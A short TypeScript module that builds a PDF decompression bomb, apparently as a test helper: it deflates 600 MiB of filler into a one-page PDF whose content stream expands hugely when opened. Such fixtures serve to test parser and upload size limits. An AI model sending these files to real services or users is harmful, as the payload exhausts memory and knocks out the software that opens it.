import { deflateSync } from 'node:zlib';

/** A small PDF whose one page unfolds to 600 MiB of nothing, or of what is given, over and over. */
export const pdfBomb = (content = ' '): Buffer => {
  const folded = deflateSync(Buffer.alloc(600 * 1024 * 1024, content), { level: 1 });
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>\nendobj\n4 0 obj\n<< /Filter /FlateDecode /Length ${folded.length} >>\nstream\n`,
    ),
    folded,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\n%%EOF\n'),
  ]);
};
